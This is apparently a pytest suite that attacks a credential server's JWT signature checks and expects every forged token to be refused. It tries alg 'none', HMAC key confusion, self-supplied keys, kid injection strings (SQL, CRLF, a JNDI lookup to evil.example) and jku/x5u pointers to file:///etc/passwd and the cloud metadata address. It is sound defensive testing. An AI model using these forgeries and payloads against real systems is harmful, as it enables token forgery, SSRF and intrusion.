"""Attacks on JWT signatures at the two JWTs of a presentation: the issuer's and the key binding."""

from typing import Any

import pytest

from tests.http import forgery
from tests.http.presentation_slots import PresentationSlot, issuer_jwt, key_binding_jwt
from tests.protocol.jwts import KEY_384, public_jwk
from tests.support.campus import Person
from tests.support.interactive_wallet import InteractiveWallet
from tests.support.raw_wallet import ABSENT, Key
from tests.support.server import RunningServer


@pytest.fixture(params=[issuer_jwt, key_binding_jwt], ids=["issuer's JWT", "key binding"])
def at(
    request: pytest.FixtureRequest, campus_server: RunningServer, erika: InteractiveWallet, victim: Person
) -> PresentationSlot:
    """The JWT a test is run for."""
    made: PresentationSlot = request.param(campus_server, erika, victim)
    return made


@pytest.mark.rule("E-01")
def test_unsigned(at: PresentationSlot) -> None:
    header, payload, signature = at.good().split(".")
    spellings = ("none", "None", "NONE", "nOnE", " none", "none ", "", "null")
    no_texts: list[Any] = [None, ABSENT, [], ["ES256"], 0]
    at.assert_all_refused(
        {
            **{f"alg {alg!r}": at.bent(header={"alg": alg}) for alg in [*spellings, *no_texts]},
            **{f"alg {alg!r}, empty": forgery.with_signature(at, b"", {"alg": alg}) for alg in spellings},
            "empty signature": f"{header}.{payload}.",
            "no signature": f"{header}.{payload}",
            "signature alone": f"..{signature}",
        }
    )


@pytest.mark.rule("E-02", "E-03")
def test_other_algorithms(at: PresentationSlot) -> None:
    names = ("ES256K", "ES384", "ES512", "PS256", "RS256", "EdDSA", "Ed25519", "ESP256", "es256", "ES256 ")
    at.assert_all_refused(
        {
            **{f"alg {name!r}": at.bent(header={"alg": name}) for name in names},
            **{
                f"{algorithm}, {what}": forgery.with_hmac(at, algorithm, secret)
                for algorithm in ("HS256", "HS384", "HS512")
                for what, secret in forgery.public_key_spellings(at.key).items()
            },
        }
    )


@pytest.mark.rule("E-04", "AG-12")
def test_keys_it_brings_along(at: PresentationSlot) -> None:
    own = Key()
    at.assert_all_refused(
        {
            "jwk": at.bent(header={"jwk": own.public_jwk}, key=own.private),
            "jwk and its kid": at.bent(header={"jwk": own.public_jwk, "kid": own.thumbprint}, key=own.private),
            "jwk alone": at.bent(header={"jwk": own.public_jwk, "x5c": ABSENT}, key=own.private),
            "no key at all": at.bent(key=own.private),
            "x5c": at.bent(header={"x5c": ["MIIB"]}, key=own.private),
        }
    )


@pytest.mark.rule("E-05")
def test_a_kid_names_nothing(at: PresentationSlot) -> None:
    own = Key()
    names: list[Any] = [
        "../../../../dev/null", "x' OR '1'='1", "x\r\nX-Injected: 1", "x\0", "${jndi:ldap://evil.example/x}",
        "https://evil.example/jwks.json", "k" * 5000, "", ["x"], {"$ne": None}, 0, None, own.thumbprint,
    ]  # fmt: skip
    at.assert_all_refused({f"kid {str(kid)[:40]!r}": at.bent(header={"kid": kid}, key=own.private) for kid in names})


@pytest.mark.rule("E-06", "AG-13")
def test_keys_from_elsewhere(at: PresentationSlot) -> None:
    own = Key()
    with forgery.canary() as (url, hits):
        places = (f"{url}/jwks.json", f"{url}/cert.pem", "file:///etc/passwd", "http://169.254.169.254/")
        elsewhere = {
            f"{name} {place}": at.bent(header={"x5c": ABSENT, "kid": own.thumbprint, name: place}, key=own.private)
            for name in ("jku", "x5u")
            for place in places
        }
        by_issuer = at.bent(header={"x5c": ABSENT, "kid": "x"}, payload={"iss": url}, key=own.private)
        at.assert_all_refused({**elsewhere, "iss": by_issuer})
        assert hits == []


@pytest.mark.rule("E-08")
def test_critical_extensions(at: PresentationSlot) -> None:
    extensions: list[dict[str, Any]] = [
        {"crit": ["x"], "x": 1},
        {"crit": ["x"]},
        {"crit": ["exp"]},
        {"crit": []},
        {"crit": "b64"},
        {"crit": None},
        {"crit": ["b64"], "b64": True},
        {"crit": ["b64"], "b64": False},
        {"b64": False},
    ]
    at.assert_all_refused({str(extension): at.bent(header=extension) for extension in extensions})


@pytest.mark.rule("E-09", "AG-14")
def test_the_type(at: PresentationSlot) -> None:
    types = ("at+jwt", "dpop+jwt", "openid4vci-proof+jwt", "dc+sd-jwt", "vc+sd-jwt", "kb+jwt", "JWT", "")
    own = at.header["typ"]
    others: list[Any] = [*(one for one in types if one != own), ABSENT, None, [own], own.upper(), f"{own} "]
    at.assert_all_refused({f"typ {typ!r}": at.bent(header={"typ": typ}) for typ in others})


@pytest.mark.rule("E-09", "C-24")
def test_jwts_of_other_places(at: PresentationSlot) -> None:
    wallet = at.wallet
    nonce = at.payload.get("nonce", "x")
    others = {
        "key proof": wallet.key_proof(nonce, claims={**at.payload}),
        "DPoP proof": wallet.dpop("POST", wallet.issuer, key=wallet.holder, nonce=nonce, claims={**at.payload}),
        "a key proof that says it is one": wallet.key_proof(nonce, header={"jwk": ABSENT}, claims={**at.payload}),
    }
    at.assert_all_refused(others)


@pytest.mark.rule("E-10")
def test_names_that_occur_twice(at: PresentationSlot) -> None:
    at.assert_all_refused(forgery.duplicated(at))


@pytest.mark.rule("E-11", "E-19")
def test_other_serializations(at: PresentationSlot) -> None:
    keys = at.wallet.http.get(f"{at.wallet.issuer}/jwks.json").json()["keys"]
    assert keys
    at.assert_all_refused(
        {
            "flattened": forgery.flattened(at),
            "general": forgery.general(at),
            **{f"encrypted for {key['kid']}": forgery.encrypted(at, key) for key in keys},
        }
    )


@pytest.mark.rule("E-12", "E-17")
def test_signatures_that_are_none(at: PresentationSlot) -> None:
    at.assert_all_refused({**forgery.degenerate_signatures(at), **forgery.respelled_segments(at)})


@pytest.mark.rule("E-13")
def test_a_key_of_another_curve(at: PresentationSlot) -> None:
    at.assert_all_refused(
        {
            "ES256": at.bent(key=KEY_384),
            "ES384": at.bent(header={"alg": "ES384"}, key=KEY_384),
            "ES384, its jwk": at.bent(header={"alg": "ES384", "jwk": public_jwk(KEY_384)}, key=KEY_384),
            "cut": forgery.with_signature(at, b"\x01" * 96),
        }
    )


@pytest.mark.rule("E-15")
def test_too_large(at: PresentationSlot) -> None:
    at.assert_all_refused(
        {
            "long header": at.bent(header={"x": "x" * 150_000}),
            "long claim": at.bent(payload={"x_long": "x" * 190_000}),
            "dots": "." * 100_000,
            "deep": forgery.literal_claim(at, "x_deep", "[" * 2000 + "]" * 2000),
        }
    )
    answer = at.send(at.bent(header={"x": "x" * 1_000_000}))
    assert answer.status_code in (400, 413)
    at.assert_kept()


@pytest.mark.rule("E-16", "AG-16")
def test_numbers_that_are_none(at: PresentationSlot) -> None:
    for claim in ("iat", "exp", "nbf"):
        literals = (
            f'"{at.wallet.clock.now()}"', "true", "null", "[]", "{}", "-1", "1e400", "NaN", "Infinity", "9" * 5000,
            "1e5000", "0x71", "+1", "01",
        )  # fmt: skip
        at.assert_all_refused({f"{claim} {text[:20]}": forgery.literal_claim(at, claim, text) for text in literals})


def test_the_unbent_one_is_taken(at: PresentationSlot) -> None:
    """What the refusals are worth: the same JWT is taken each time it is sent to the session as it was."""
    for _ in range(3):
        at.assert_kept()
    at.assert_all_refused({"unsigned": f"{at.good().rpartition('.')[0]}."})
